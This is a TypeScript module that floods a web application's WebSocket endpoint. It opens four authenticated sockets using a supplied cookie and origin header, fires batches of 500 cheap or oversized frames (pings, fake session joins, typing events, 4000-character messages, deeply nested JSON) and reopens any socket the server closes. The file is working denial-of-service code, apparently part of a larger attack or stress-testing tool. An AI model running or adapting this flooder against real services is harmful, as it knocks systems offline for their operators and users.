import { randomUUID } from 'node:crypto';
import { WebSocket } from 'ws';
import type { Attack } from './orders.ts';
import type { createTally } from './tally.ts';

const socketCount = 4;
const framesAtOnce = 500;
/** What the flooder's own memory may hold; the server reads as much as it likes of it. */
const maxUnsentBytes = 4 * 1024 * 1024;

/** Frames that cost as little, and as much, as a frame can. */
const createFrames = (sessionId: string): readonly ((ws: WebSocket) => void)[] => {
  const text = (frame: object) => {
    const json = JSON.stringify(frame);
    return (ws: WebSocket) => ws.send(json);
  };
  return [
    text({ type: 'ping' }),
    text({ type: 'join_session', sessionId: randomUUID() }),
    text({ type: 'typing', sessionId, isTyping: true }),
    text({ type: 'send_message', sessionId, content: 'x'.repeat(4000) }),
    text({ type: 'ping', more: Array.from({ length: 500 }, () => ({ deep: [[[]]] })) }),
    (ws) => ws.ping(),
  ];
};

/** Floods four sockets, and opens another for every one that is closed. */
export const floodSockets = (
  { url, cookie, sessionId }: Extract<Attack, { kind: 'sockets' }>,
  tally: ReturnType<typeof createTally>,
  isOver: () => boolean,
) => {
  const frames = createFrames(sessionId);

  const flood = (ws: WebSocket, send: (socket: WebSocket) => void) => {
    if (ws.readyState !== ws.OPEN || isOver()) return;
    if (ws.bufferedAmount < maxUnsentBytes) {
      for (let sent = 0; sent < framesAtOnce; sent += 1) send(ws);
      tally.count('frames', framesAtOnce);
    }
    setImmediate(flood, ws, send);
  };

  const open = (turn: number) => {
    if (isOver()) return;
    const ws = new WebSocket(`${url.replace('http', 'ws')}/ws`, {
      headers: { origin: url, cookie },
      perMessageDeflate: false,
    });
    const send = frames[turn % frames.length] ?? ((socket: WebSocket) => socket.ping());
    ws.on('open', () => flood(ws, send));
    ws.on('error', () => undefined);
    ws.on('close', (code) => {
      tally.count(`closed ${code}`);
      setTimeout(open, 10, turn + socketCount + 1);
    });
  };

  for (let socket = 0; socket < socketCount; socket += 1) open(socket);
};
